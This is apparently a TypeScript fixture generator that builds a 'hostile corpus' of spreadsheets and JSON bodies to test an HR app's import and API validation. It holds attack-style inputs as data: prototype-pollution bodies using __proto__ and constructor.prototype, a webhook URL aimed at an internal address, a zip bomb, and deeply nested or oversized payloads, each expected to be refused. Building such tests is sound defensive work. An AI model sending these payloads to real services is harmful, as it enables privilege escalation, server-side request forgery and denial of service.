const fodsCell = (c: FodsCell) => {
  if (typeof c === 'number')
    return `<table:table-cell office:value-type="float" office:value="${c}"><text:p>${c}</text:p></table:table-cell>`
  if (typeof c === 'string')
    return `<table:table-cell office:value-type="string"><text:p>${c}</text:p></table:table-cell>`
  if ('date' in c)
    return `<table:table-cell table:style-name="date" office:value-type="date" office:date-value="${c.date}"><text:p>${c.date}</text:p></table:table-cell>`
  return c.xml
}
const fodsTable = (name: string, rows: FodsCell[][], hidden = false) =>
  `<table:table table:name="${name}"${hidden ? ' table:style-name="hidden"' : ''}>${rows
    .map((r) => `<table:table-row>${r.map(fodsCell).join('')}</table:table-row>`)
    .join('')}</table:table>`
const fods = (...tables: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><office:document ${fodsNs} office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.spreadsheet"><office:automatic-styles><number:date-style style:name="ymd"><number:year number:style="long"/><number:text>-</number:text><number:month number:style="long"/><number:text>-</number:text><number:day number:style="long"/></number:date-style><style:style style:name="date" style:family="table-cell" style:data-style-name="ymd"/><style:style style:name="hidden" style:family="table"><style:table-properties table:display="false"/></style:style><style:style style:name="bold" style:family="text"><style:text-properties fo:font-weight="bold"/></style:style></office:automatic-styles><office:body><office:spreadsheet>${tables.join('')}</office:spreadsheet></office:body></office:document>`
const loHeader: FodsCell[] = ['日期', '店铺', '访客数', '支付金额']
const loRows: FodsCell[][] = [
  [{ date: '2011-11-01' }, '旗舰店', 10, 100.5],
  [{ date: '2011-11-02' }, '旗舰店', 12, 80],
]

const libreOffice: Item[] = [
  {
    file: 'xlsx/libreoffice/plain.xlsx',
    content: { libreOffice: fods(fodsTable('Sheet1', [loHeader, ...loRows])) },
    send: traffic,
    expect: imported(2),
    why: 'issue 12.3: a workbook saved by LibreOffice Calc (its own part order, date cells with a number format)',
  },
  {
    file: 'xlsx/libreoffice/rich-text.xlsx',
    content: {
      libreOffice: fods(
        fodsTable('Sheet1', [
          loHeader,
          [
            { date: '2011-11-01' },
            {
              xml: '<table:table-cell office:value-type="string"><text:p><text:span text:style-name="bold">旗舰</text:span>店</text:p></table:table-cell>',
            },
            10,
            1,
          ],
        ]),
      ),
    },
    send: traffic,
    expect: importedWith(1, 'shop', ['旗舰店']),
    why: 'issue 12.3: LibreOffice rich text (a bold run) reads as its text',
  },
  {
    file: 'xlsx/libreoffice/formula.xlsx',
    content: {
      libreOffice: fods(
        fodsTable('Sheet1', [
          loHeader,
          [
            { date: '2011-11-01' },
            '旗舰店',
            10,
            {
              xml: '<table:table-cell table:formula="of:=[.C2]*10" office:value-type="float" office:value="100"><text:p>100</text:p></table:table-cell>',
            },
          ],
        ]),
      ),
    },
    send: traffic,
    expect: refused('formula'),
    why: 'a LibreOffice formula cell with its cached result is refused naming row and column',
  },
  {
    file: 'xlsx/libreoffice/merged.xlsx',
    content: {
      libreOffice: fods(
        fodsTable('Sheet1', [
          loHeader,
          [
            { date: '2011-11-01' },
            {
              xml: '<table:table-cell table:number-rows-spanned="2" office:value-type="string"><text:p>旗舰店</text:p></table:table-cell>',
            },
            10,
            1,
          ],
          [{ date: '2011-11-02' }, { xml: '<table:covered-table-cell/>' }, 12, 1],
        ]),
      ),
    },
    send: traffic,
    expect: importedWith(2, 'shop', ['旗舰店', '旗舰店']),
    why: 'a shop merged over two rows in LibreOffice',
  },
  {
    file: 'xlsx/libreoffice/hidden-first-sheet.xlsx',
    // LibreOffice shows the active sheet whatever its state, and a flat ODS converted headless has no active sheet
    // but the first: so the workbook is written by ExcelJS with the visible sheet active and saved by LibreOffice,
    // which keeps `<sheet state="hidden">` (the reader test checks the committed file still has it).
    content: {
      libreOfficeFromXlsx: async () => {
        const wb = new ExcelJS.Workbook()
        wb.created = wb.modified = new Date('2026-12-01T00:00:00Z')
        wb.views = [
          { x: 0, y: 0, width: 10000, height: 20000, firstSheet: 1, activeTab: 1, visibility: 'visible' },
        ]
        const hidden = wb.addWorksheet('旧数据', { state: 'hidden' })
        hidden.addRow(header)
        hidden.addRow(['2011-10-01', '旗舰店', 1, 1])
        hidden.addRow(['2011-10-02', '旗舰店', 1, 1])
        hidden.addRow(['2011-10-03', '旗舰店', 1, 1])
        const ws = wb.addWorksheet('Sheet1')
        for (const r of [header, ...okRows()]) ws.addRow(r)
        return Buffer.from(await wb.xlsx.writeBuffer())
      },
    },
    send: traffic,
    expect: imported(2),
    why: 'a hidden first sheet saved by LibreOffice: the visible sheet is what the user means',
  },
]

// -------------------------------------------------------------------------------------------- JSON bodies
const dept = {
  via: 'json',
  method: 'POST',
  route: '/api/departments',
  as: 'admin',
  table: 'departments',
} as const
const emp = { via: 'json', method: 'POST', route: '/api/employees', as: 'hr', table: 'employees' } as const
const pos = { via: 'json', method: 'POST', route: '/api/positions', as: 'admin', table: 'positions' } as const
const login = { via: 'json', method: 'POST', route: '/api/auth/login', as: 'hr', table: 'sessions' } as const
const mapping = {
  via: 'json',
  method: 'PUT',
  route: '/api/imports/mappings',
  as: 'hr',
  table: 'import_mappings',
} as const
const assignment = {
  via: 'json',
  method: 'PUT',
  route: '/api/pay/assignments',
  as: 'hr',
  table: 'pay_assignments',
} as const
const attribution = {
  via: 'json',
  method: 'PUT',
  route: '/api/attributions',
  as: 'hr',
  table: 'attributions',
} as const
const j = (value: unknown) => JSON.stringify(value)
const scheme = (base: string) =>
  j({ positionId: '{positionService}', scheme: customerServicePayScheme({ base }) })
const nested = (depth: number) => `{"name":"深","parentId":${'['.repeat(depth)}${']'.repeat(depth)}}`

const json: Item[] = [
  {
    file: 'json/department-ok.txt',
    content: j({ name: '🛍️ 直播部 متجر' }),
    send: dept,
    expect: { outcome: 'accepted', status: 201 },
    why: 'baseline: emoji and RTL text are fine',
  },
  {
    file: 'json/department-nul.txt',
    content: j({ name: '客服\u0000部' }),
    send: dept,
    expect: refused('name'),
    why: 'issue 12.4: NUL in a text field answers 400 naming it',
  },
  {
    file: 'json/login-nul-username.txt',
    content: j({ username: 'hr\u0000', password: 'x' }),
    send: login,
    expect: refused('username'),
    why: 'issue 12.4: NUL in the login name',
  },
  {
    file: 'json/login-nul-password.txt',
    content: j({ username: 'hr', password: 'jixiao123\u0000' }),
    send: login,
    expect: refused('password'),
    why: 'issue 12.4: NUL in the password',
  },
  {
    file: 'json/employee-nul-name.txt',
    content: j({ employeeNo: 'H001', name: '小\u0000冰', hireDate: '2026-01-05' }),
    send: emp,
    expect: refused('name'),
    why: 'issue 12.4: NUL in an employee name',
  },
  {
    file: 'json/position-nul-nested.txt',
    content: j({ name: '岗位', jobDescription: { summary: '概述\u0000', duties: [] } }),
    send: pos,
    expect: refused('jobDescription.summary'),
    why: 'NUL deep inside a body',
  },
  {
    file: 'json/mapping-nul-key.txt',
    content: j({ name: '映射', kind: 'traffic', mapping: { date: '日期', 'uv\u0000': '访客' } }),
    send: mapping,
    expect: refused(),
    why: 'NUL in an object key',
  },
  {
    file: 'json/attribution-nul.txt',
    content: j({
      sourceKind: 'agent_nick',
      sourceName: '店铺:小\u0000美',
      employeeId: '{employeeE003}',
      departmentId: null,
      shop: null,
    }),
    send: attribution,
    expect: refused('sourceName'),
    why: 'NUL in an attribution name',
  },
  {
    file: 'json/nested-100.txt',
    content: nested(100),
    send: dept,
    expect: refused('parentId'),
    why: 'arrays nested 100 deep where a number belongs',
  },
  {
    file: 'json/number-1e308-id.txt',
    content: '{"name":"大","parentId":1e308}',
    send: dept,
    expect: refused('parentId'),
    why: 'an id of 1e308',
  },
  {
    file: 'json/number-1e400.txt',
    content: '{"name":"大","parentId":1e400}',
    send: dept,
    expect: refused('parentId'),
    why: 'a number past double range (JSON.parse gives Infinity)',
  },
  {
    file: 'json/pay-base-1e308.txt',
    content: scheme('1e308'),
    send: assignment,
    expect: refused('base'),
    why: 'issue 12.6: a pay base of 1e308',
  },
  {
    file: 'json/pay-base-negative.txt',
    content: scheme('-500'),
    send: assignment,
    expect: refused('base'),
    why: 'negative money as a base',
  },
  {
    file: 'json/pay-base-nan.txt',
    content: scheme('NaN'),
    send: assignment,
    expect: refused('base'),
    why: 'NaN as money',
  },
  {
    file: 'json/proto-key.txt',
    content: '{"name":"原型","__proto__":{"isAdmin":true}}',
    send: dept,
    expect: refused(),
    why: 'prototype pollution through __proto__ (an unknown key)',
  },
  {
    file: 'json/constructor-key.txt',
    content: '{"name":"原型","constructor":{"prototype":{"isAdmin":true}}}',
    send: dept,
    expect: refused(),
    why: 'prototype pollution through constructor.prototype',
  },
  {
    file: 'json/mapping-proto-key.txt',
    content: '{"name":"映射","kind":"traffic","mapping":{"date":"日期","__proto__":"访客"}}',
    send: mapping,
    expect: refused(),
    why: '__proto__ as a record key',
    pending: '200: the __proto__ entry is dropped silently',
  },
  {
    file: 'json/wrong-type-name.txt',
    content: j({ name: 123 }),
    send: dept,
    expect: refused('name'),
    why: 'a number where text belongs',
  },
  {
    file: 'json/wrong-type-date.txt',
    content: j({ employeeNo: 'H002', name: '日期', hireDate: true }),
    send: emp,
    expect: refused('hireDate'),
    why: 'a boolean where a date belongs',
  },
  {
    file: 'json/wrong-type-array.txt',
    content: j({ employeeNo: ['H003'], name: '数组', hireDate: '2026-01-05' }),
    send: emp,
    expect: refused('employeeNo'),
    why: 'an array where text belongs',
  },
  {
    file: 'json/extra-field.txt',
    content: j({ name: '多余', companyId: 2 }),
    send: dept,
    expect: refused(),
    why: 'an extra field (companyId) must not be accepted or ignored',
  },
  {
    file: 'json/truncated.txt',
    content: '{"name":"半',
    send: dept,
    expect: refused(),
    why: 'a body cut off',
  },
  {
    file: 'json/empty.txt',
    content: '',
    send: dept,
    expect: refused(),
    why: 'no body',
  },
  {
    file: 'json/null.txt',
    content: 'null',
    send: dept,
    expect: refused(),
    why: 'the body null',
  },
  {
    file: 'json/top-level-array.txt',
    content: '[{"name":"数组"}]',
    send: dept,
    expect: refused(),
    why: 'an array instead of an object',
  },
  {
    file: 'json/bom.txt',
    content: cat(bom, j({ name: 'BOM' })),
    send: dept,
    expect: { outcome: 'accepted', status: 201 },
    why: 'a BOM before the JSON (Windows Notepad) is not part of the body',
  },
  {
    file: 'json/lone-surrogate.txt',
    content: '{"name":"\\ud800坏"}',
    send: dept,
    expect: refused('name'),
    why: 'a lone surrogate would be stored as U+FFFD, silently changed',
  },
  {
    file: 'json/date-impossible.txt',
    content: j({ employeeNo: 'H004', name: '二月', hireDate: '2026-02-30' }),
    send: emp,
    expect: refused('hireDate'),
    why: 'no 30 February',
  },
  {
    file: 'json/text-plain.txt',
    content: j({ name: '纯文本' }),
    send: { ...dept, contentType: 'text/plain' },
    expect: refused('application/json', 415),
    why: 'JSON sent as text/plain (the CSRF-simple content type)',
  },
  {
    file: 'json/webhook-internal.txt',
    content: j({ flavour: 'dingtalk', url: 'http://127.0.0.1:5432/', enabled: true }),
    send: {
      via: 'json',
      method: 'PUT',
      route: '/api/notifications/webhook',
      as: 'admin',
      table: 'notification_webhooks',
    },
    expect: refused('url'),
    why: 'issue 12.10: a robot webhook pointed at an internal address',
  },
  {
    file: 'json/generated/nested-50000.txt',
    generated: true,
    content: nested(50_000),
    send: dept,
    expect: refused(),
    why: 'arrays nested 50,000 deep (100 KB): no stack overflow',
  },
  {
    file: 'json/generated/huge-array.txt',
    generated: true,
    content: j({
      name: '岗位',
      jobDescription: { duties: [], summary: '', subordinatePositions: Array(120_000).fill('x') },
    }),
    send: pos,
    expect: refused('subordinatePositions'),
    why: 'an array of 120,000 items under the 1 MB body limit',
  },
  {
    file: 'json/generated/string-1mb.txt',
    generated: true,
    content: j({ name: '长'.repeat(1024 * 1024) }),
    send: dept,
    expect: refused('1 MB', 413),
    why: 'a string of a million characters: over the body limit',
  },
  {
    file: 'json/generated/string-900kb.txt',
    generated: true,
    content: j({ name: 'x'.repeat(900_000) }),
    send: dept,
    expect: refused('name'),
    why: 'a 900 KB name under the body limit: refused by its field bound',
  },
]

// --------------------------------------------------------------------------------------------- large files
const large: Item[] = [
  {
    file: 'csv/generated/blank-lines-1mb.csv',
    generated: true,
    content: '\n'.repeat(1024 * 1024),
    send: traffic,
    expect: refused(),
    why: 'issue 12.2: 1 MB of blank lines',
  },
  {
    file: 'csv/generated/single-line-1mb.csv',
    generated: true,
    content: `日期,店铺,${'x'.repeat(1024 * 1024)}`,
    send: traffic,
    expect: refused(),
    why: 'issue 12.2: one line of 1 MB',
  },
  {
    file: 'csv/generated/wide-20000-columns.csv',
    generated: true,
    content: `${head.trimEnd()},${Array.from({ length: 20_000 }, (_, i) => `c${i}`).join(',')}\n2011-11-01,旗舰店,1,1${',0'.repeat(20_000)}\n`,
    send: traffic,
    expect: refused(),
    why: '20,004 columns',
  },
  {
    file: 'csv/generated/many-rows.csv',
    generated: true,
    content: `日期,店铺,商品ID,访客数\n${Array.from({ length: 5000 }, (_, i) => `2011-11-01,旗舰店,P${i},${i}\n`).join('')}`,
    send: traffic,
    expect: imported(5000),
    why: '5,000 valid rows import whole',
  },
  {
    file: 'csv/generated/orders-bad-row-far.csv',
    generated: true,
    content: uci(5000, '800009,85123A,HEART,6,2011-02-30 08:26:00,2.55,17850.0,United Kingdom\n'),
    send: orders,
    expect: refused('2011-02-30'),
    why: 'one bad row after 5,000 good ones: nothing is written',
  },
  {
    file: 'xlsx/generated/zip-bomb.xlsx',
    generated: true,
    content: () => zipBomb(),
    send: xlsxTraffic,
    expect: refused('zip bomb'),
    why: 'a sheet that inflates 1000-fold',
  },
  {
    file: 'xlsx/generated/many-rows.xlsx',
    generated: true,
    content: () =>
      workbook([
        ['日期', '店铺', '商品ID', '访客数'],
        ...Array.from({ length: 2000 }, (_, i) => ['2011-11-01', '旗舰店', `P${i}`, i]),
      ]),
    send: xlsxTraffic,
    expect: imported(2000),
    why: '2,000 rows of a workbook',
  },
]

export const hostileCorpus: Item[] = [...csv, ...xlsx, ...libreOffice, ...json, ...large]

async function bytesOf(content: Content): Promise<Buffer> {
  if (typeof content === 'function') return content()
  if (typeof content === 'object' && 'libreOffice' in content)
    return saveWithLibreOffice(content.libreOffice, 'fods')
  if (typeof content === 'object' && 'libreOfficeFromXlsx' in content)
    return saveWithLibreOffice(await content.libreOfficeFromXlsx(), 'xlsx')
  return typeof content === 'string' ? Buffer.from(content) : content
}

/** Opens a flat ODS document or an XLSX workbook in LibreOffice (`soffice`, Debian's libreoffice-calc) and saves it as XLSX. */
function saveWithLibreOffice(document: string | Buffer, type: 'fods' | 'xlsx'): Buffer {
  const work = mkdtempSync(path.join(tmpdir(), 'jixiao-soffice-'))
  try {
    const source = path.join(work, `source.${type}`)
    writeFileSync(source, document)
    execFileSync(
      'soffice',
      [
        `-env:UserInstallation=file://${work}/profile`,
        '--headless',
        '--convert-to',
        'xlsx',
        '--outdir',
        path.join(work, 'out'),
        source,
      ],
      { stdio: ['ignore', 'ignore', 'pipe'], timeout: 120_000 },
    )
    return readFileSync(path.join(work, 'out', 'source.xlsx'))
  } finally {
    rmSync(work, { recursive: true, force: true })
  }
}

/** The manifest: every entry without its content. */
export const hostileManifest = (): HostileEntry[] => hostileCorpus.map(({ content: _c, ...entry }) => entry)

/** Writes the committed (small) files and manifest.json into `dir`; `only`: just the files under that path. */
export async function writeCommittedCorpus(dir: string, only?: string): Promise<void> {
  if (!only)
    for (const sub of ['csv', 'xlsx', 'json']) rmSync(path.join(dir, sub), { recursive: true, force: true })
  for (const item of hostileCorpus.filter((i) => !i.generated && i.file.startsWith(only ?? '')))
    await writeItem(dir, item)
  const manifest = path.join(dir, 'manifest.json')
  writeFileSync(manifest, `${JSON.stringify(hostileManifest(), null, 2)}\n`)
  // in the repository's format, so `biome check` passes on the committed file
  execFileSync(path.resolve(dir, '../../node_modules/.bin/biome'), ['format', '--write', manifest], {
    stdio: 'ignore',
  })
}

/** Writes the large files (entries marked `generated`) into `dir`, at the paths the manifest names. */
export async function writeGeneratedCorpus(dir: string): Promise<void> {
  for (const item of hostileCorpus.filter((i) => i.generated)) await writeItem(dir, item)
}

async function writeItem(dir: string, item: Item) {
  const target = path.join(dir, item.file)
  mkdirSync(path.dirname(target), { recursive: true })
  writeFileSync(target, await bytesOf(item.content))
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const option = (name: string) => {
    const at = process.argv.indexOf(name)
    return at > 0 ? process.argv[at + 1] : undefined
  }
  const out = option('--out')
  if (out) await writeGeneratedCorpus(out)
  else
    await writeCommittedCorpus(
      path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../test-fixtures/hostile'),
      option('--only'),
    )
}
